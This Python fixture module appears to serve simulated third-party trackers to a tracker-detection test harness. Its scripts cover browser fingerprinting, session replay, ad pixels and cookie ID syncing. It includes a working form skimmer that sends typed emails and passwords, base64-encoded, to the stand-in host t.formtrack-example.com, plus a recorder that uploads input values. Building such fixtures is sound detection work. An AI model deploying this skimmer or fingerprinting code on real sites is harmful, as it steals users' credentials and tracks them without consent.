"""Third parties of the detector pages (detectors.py): fingerprinting scripts, session recorders, a key logger, ad
conversion endpoints and an ID-sync frame, on real-looking hostnames.

- openfpcdn.io/fingerprintjs/{canvas,fonts,webgl,audio,agent}.js: one technique each (canvas text read back,
  60 fonts measured, WebGL unmasked renderer, an offline audio rendering, navigator/screen enumeration), and
  frame.html, a cross-site frame calling canvas and navigator APIs in its first script.
- cdn.replay-example.io/recorder.js: an rrweb-style recorder (full snapshot, DOM mutations, inputs) posting
  batches to ingest.replay-example.io; www.clarity.ms/tag/<id>: a known replay service posting to x.clarity.ms.
- t.formtrack-example.com/f.js: reads every input on `input` events (debounced) and sends the e-mail and
  password base64-encoded in a JSON POST body, and the e-mail's SHA-256 in a pixel URL on px.formtrack-example.com.
- www.googleadservices.com / googleads.g.doubleclick.net: Google Ads conversion and remarketing pixels.
- match.adsrvr.org/track/cmf/generic: an iframe that sets the `TDID` cookie and passes its value to
  x.bidswitch.net (query parameter `user_id`) and sync.1rx.io (base64url in the path).
"""

from __future__ import annotations

import base64
import uuid

from demoweb import Request, Response, Site, set_cookie

from .trackers import YEAR

FP_HOST = "openfpcdn.io"
# The detector pages' frame script: served same-site by detectors.py and cross-site here (its own renderer).
FRAME_SCRIPT = ("<script>navigator.hardwareConcurrency; var c = document.createElement('canvas');"
                " c.getContext('2d'); c.toDataURL('image/gif');</script>")
REPLAY_HOST, REPLAY_INGEST = "cdn.replay-example.io", "ingest.replay-example.io"
CLARITY_HOST, CLARITY_COLLECT = "www.clarity.ms", "x.clarity.ms"
KEYLOGGER_HOST, KEYLOGGER_PIXEL = "t.formtrack-example.com", "px.formtrack-example.com"
ADS_CONVERSION, ADS_REMARKETING = "www.googleadservices.com", "googleads.g.doubleclick.net"
SYNC_FROM, SYNC_TO, SYNC_TO_B64 = "match.adsrvr.org", "x.bidswitch.net", "sync.1rx.io"

FONTS = [f"Font{n:02d} Test" for n in range(60)]

SCRIPTS = {
    "canvas.js": r"""(function () {
  var c = document.createElement("canvas"); c.width = 240; c.height = 60;
  var x = c.getContext("2d");
  x.textBaseline = "top"; x.font = "14px Arial";
  x.fillStyle = "#f60"; x.fillRect(125, 1, 62, 20);
  x.fillStyle = "#069"; x.fillText("Cwm fjordbank glyphs vext quiz", 2, 15);
  x.fillStyle = "rgba(102, 204, 0, 0.7)"; x.fillText("Cwm fjordbank glyphs vext quiz", 4, 17);
  window.__fpCanvas = c.toDataURL().length;
})();""",
    "fonts.js": r"""(function () {
  var fonts = __FONTS__, x = document.createElement("canvas").getContext("2d"), widths = {};
  for (var i = 0; i < fonts.length; i++) {
    x.font = "72px '" + fonts[i] + "', monospace";
    widths[fonts[i]] = x.measureText("mmmmmmmmmmlli").width;
  }
})();""",
    "webgl.js": r"""(function () {
  var gl = document.createElement("canvas").getContext("webgl");
  if (!gl) return;
  var info = gl.getExtension("WEBGL_debug_renderer_info");
  gl.getParameter(info ? info.UNMASKED_VENDOR_WEBGL : 37445);
  gl.getParameter(info ? info.UNMASKED_RENDERER_WEBGL : 37446);
  gl.getSupportedExtensions();
  [gl.VERSION, gl.SHADING_LANGUAGE_VERSION, gl.VENDOR, gl.MAX_TEXTURE_SIZE].forEach(function (p) { gl.getParameter(p); });
})();""",
    "audio.js": r"""(function () {
  var ctx = new OfflineAudioContext(1, 5000, 44100);
  var osc = ctx.createOscillator(); osc.type = "triangle"; osc.frequency.value = 10000;
  var comp = ctx.createDynamicsCompressor();
  osc.connect(comp); comp.connect(ctx.destination); osc.start(0);
  ctx.startRendering().then(function (buffer) {
    var data = buffer.getChannelData(0), sum = 0;
    for (var i = 4500; i < 5000; i++) sum += Math.abs(data[i]);
    window.__fpAudio = sum;
  });
})();""",
    "agent.js": r"""(function () {
  var n = navigator, s = screen;
  var facts = [n.userAgent, n.platform, n.language, n.languages, n.hardwareConcurrency, n.deviceMemory,
               n.vendor, n.maxTouchPoints, n.cookieEnabled, n.doNotTrack, n.plugins, n.appVersion,
               s.width, s.height, s.availWidth, s.availHeight, s.colorDepth, s.pixelDepth, window.devicePixelRatio];
  window.__fpAgent = facts.length;
})();""",
}

REPLAY_RECORDER = r"""(function () {
  var ingest = "__INGEST__", events = [], ids = new WeakMap(), next = 1;
  function id(node) { if (!ids.has(node)) ids.set(node, next++); return ids.get(node); }
  function serialize(node) {
    var out = {type: node.nodeType, id: id(node)};
    if (node.nodeType === 1) { out.tagName = node.tagName.toLowerCase(); out.attributes = {}; }
    if (node.nodeType === 3) out.textContent = node.textContent;
    out.childNodes = Array.prototype.map.call(node.childNodes, serialize);
    return out;
  }
  events.push({type: 4, data: {href: location.href, width: innerWidth, height: innerHeight}, timestamp: Date.now()});
  events.push({type: 2, data: {node: serialize(document), initialOffset: {left: 0, top: 0}}, timestamp: Date.now()});
  new MutationObserver(function (mutations) {
    var adds = [];
    mutations.forEach(function (m) {
      Array.prototype.forEach.call(m.addedNodes, function (n) { adds.push({parentId: id(m.target), node: serialize(n)}); });
    });
    events.push({type: 3, data: {source: 0, texts: [], attributes: [], removes: [], adds: adds}, timestamp: Date.now()});
  }).observe(document, {childList: true, subtree: true, characterData: true, attributes: true});
  document.addEventListener("input", function (e) {
    events.push({type: 3, data: {source: 5, text: e.target.value, isChecked: false, id: id(e.target)}, timestamp: Date.now()});
  }, true);
  function flush() {
    if (!events.length) return;
    var batch = events; events = [];
    fetch(ingest, {method: "POST", body: JSON.stringify({sessionId: "s-" + next, events: batch}), keepalive: true,
                   headers: {"Content-Type": "application/json"}}).catch(function () {});
  }
  setInterval(flush, 400);
  addEventListener("pagehide", flush);
})();"""

CLARITY_TAG = r"""(function () {
  var payload = {e: [[Date.now(), 4, location.href]], m: {v: "0.7", p: "detector"}};
  setTimeout(function () {
    navigator.sendBeacon("__COLLECT__", btoa(JSON.stringify(payload)));
  }, 100);
})();"""

KEYLOGGER = r"""(function () {
  var timer = null;
  function value(selector) { var el = document.querySelector(selector); return el ? el.value : ""; }
  function hex(buffer) {
    return Array.prototype.map.call(new Uint8Array(buffer), function (b) { return ("0" + b.toString(16)).slice(-2); }).join("");
  }
  function send() {
    var email = value("input[type=email]"), password = value("input[type=password]");
    fetch("__COLLECT__", {method: "POST", keepalive: true, headers: {"Content-Type": "application/json"},
                          body: JSON.stringify({form: location.pathname, e: btoa(email), p: btoa(password)})});
    crypto.subtle.digest("SHA-256", new TextEncoder().encode(email.trim().toLowerCase())).then(function (digest) {
      new Image().src = "__PIXEL__?h=" + hex(digest) + "&t=" + Date.now();
    });
  }
  document.addEventListener("input", function () { clearTimeout(timer); timer = setTimeout(send, 250); }, true);
})();"""

SYNC_FRAME = """<!doctype html><html><head><meta charset="utf-8"><title>sync</title></head><body>
<img src="{plain}" width="1" height="1" alt=""><img src="{encoded}" width="1" height="1" alt="">
</body></html>"""

FINGERPRINTING = Site("fingerprinting scripts", [FP_HOST], cors=True)
REPLAY = Site("replay recorder", [REPLAY_HOST, REPLAY_INGEST], cors=True)
CLARITY = Site("clarity", [CLARITY_HOST, CLARITY_COLLECT], cors=True)
KEYLOG = Site("form tracker", [KEYLOGGER_HOST, KEYLOGGER_PIXEL], cors=True)
ADS = Site("google ads conversions", [ADS_CONVERSION, ADS_REMARKETING], cors=True)
SYNC = Site("id sync", [SYNC_FROM, SYNC_TO, SYNC_TO_B64], cors=True)
SITES = [FINGERPRINTING, REPLAY, CLARITY, KEYLOG, ADS, SYNC]
EXPECTED: dict[str, dict] = {}  # third parties: the pages of detectors.py describe what they plant


def _js(text: str) -> Response:
    return Response.js(text, headers=[("Cache-Control", "no-store")])


@FINGERPRINTING.route("/fingerprintjs/<name>", ["GET"])
def fingerprinting_script(req: Request) -> Response:
    if req.params["name"] == "frame.html":  # a cross-site frame: its own renderer process
        return Response.html(f"<!doctype html><html><head>{FRAME_SCRIPT}</head><body>frame</body></html>")
    source = SCRIPTS.get(req.params["name"])
    if source is None:
        return Response.not_found()
    return _js(source.replace("__FONTS__", repr(FONTS)))


@REPLAY.route("/recorder.js", ["GET"])
def recorder(req: Request) -> Response:
    if req.host != REPLAY_HOST:
        return Response.not_found()
    return _js(REPLAY_RECORDER.replace("__INGEST__", req.url(REPLAY_INGEST, "/v1/events")))


@REPLAY.route("/v1/events")
def replay_events(req: Request) -> Response:
    return Response.empty(204)


@CLARITY.route("/tag/<project>", ["GET"])
def clarity_tag(req: Request) -> Response:
    return _js(CLARITY_TAG.replace("__COLLECT__", req.url(CLARITY_COLLECT, "/collect")))


@CLARITY.route("/collect")
def clarity_collect(req: Request) -> Response:
    return Response.empty(204)


@KEYLOG.route("/f.js", ["GET"])
def keylogger(req: Request) -> Response:
    return _js(KEYLOGGER.replace("__COLLECT__", req.url(KEYLOGGER_HOST, "/collect"))
               .replace("__PIXEL__", req.url(KEYLOGGER_PIXEL, "/p")))


@KEYLOG.route("/collect")
def keylog_collect(req: Request) -> Response:
    return Response.empty(204)


@KEYLOG.route("/p")
def keylog_pixel(req: Request) -> Response:
    return Response.pixel()


@ADS.route("/pagead/conversion/<account>/")
def ads_conversion(req: Request) -> Response:
    return Response.pixel()


@ADS.route("/pagead/viewthroughconversion/<account>/")
def ads_remarketing(req: Request) -> Response:
    return Response.pixel()


@SYNC.route("/track/cmf/generic", ["GET"])
def sync_frame(req: Request) -> Response:
    """The Trade Desk-style match frame: its own TDID cookie, passed on to two partners."""
    tdid = req.cookies.get("TDID") or str(uuid.uuid4())
    encoded = base64.urlsafe_b64encode(tdid.encode()).decode().rstrip("=")
    page = SYNC_FRAME.format(plain=req.url(SYNC_TO, f"/sync?ssp=thetradedesk&user_id={tdid}"),
                             encoded=req.url(SYNC_TO_B64, f"/usersync2/ttd/{encoded}"))
    return Response.html(page, headers=[set_cookie("TDID", tdid, domain="adsrvr.org", max_age=YEAR, secure=True,
                                                   same_site="None")])


@SYNC.route("/sync")
def sync_partner(req: Request) -> Response:
    return Response.pixel()


@SYNC.route("/usersync2/<partner>/<uid>")
def sync_partner_path(req: Request) -> Response:
    return Response.pixel()
